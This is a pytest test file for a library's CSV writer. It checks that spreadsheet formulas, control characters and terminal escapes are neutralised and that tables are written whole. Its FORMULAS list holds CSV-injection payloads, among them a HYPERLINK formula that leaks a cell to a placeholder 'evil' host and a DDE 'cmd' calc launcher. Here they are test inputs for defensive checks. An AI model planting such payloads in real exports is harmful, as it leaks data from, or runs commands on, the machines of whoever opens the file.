"""What minidl writes as CSV is read by spreadsheets: every cell is one line, and none a formula."""

import csv

import pytest

from minidl.storage.tables import cell, csv_file

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A2,"cat")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "=1",
    "＝1+1",
    "＠a",
]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("before", ["", " ", "cat;", "cat; ", "cat|"])
def test_a_formula_is_a_text_wherever_a_cell_may_begin(text, before):
    written = cell(before + text)
    assert written.endswith("'" + text) and written.count("'") == 1 + text.count("'")


@pytest.mark.parametrize("text", ["\t=1", "\r=1", "\n=1", "\x1b]0;owned\x07", "a\nb", "\u202egpj.exe"])
def test_control_characters_are_escapes_and_begin_no_formula(text):
    written = cell(text)
    assert written.isprintable() and written[0] not in "=+-@"


@pytest.mark.parametrize(
    "value", [-0.5, 3, None, "-0.5", "+3", "-1.5e-07", "-inf", "nan", "", "2-3", "a=b", "tench, Tinca"]
)
def test_numbers_and_innocent_texts_stay_as_they_are(value):
    assert cell(value) == value


def test_a_table_has_as_many_lines_as_rows_and_is_not_there_before_it_is_whole(tmp_path):
    path = tmp_path / "t.csv"
    with csv_file(path) as write:
        write(["file", "value"])
        write(["a\r\nb", -1.5])
        write(["=1", '"'])
        assert not path.exists()
    assert path.read_text(encoding="utf-8").count("\n") == 3
    with path.open(newline="", encoding="utf-8") as file:
        assert list(csv.reader(file)) == [["file", "value"], [r"a\r\nb", "-1.5"], ["'=1", '"']]
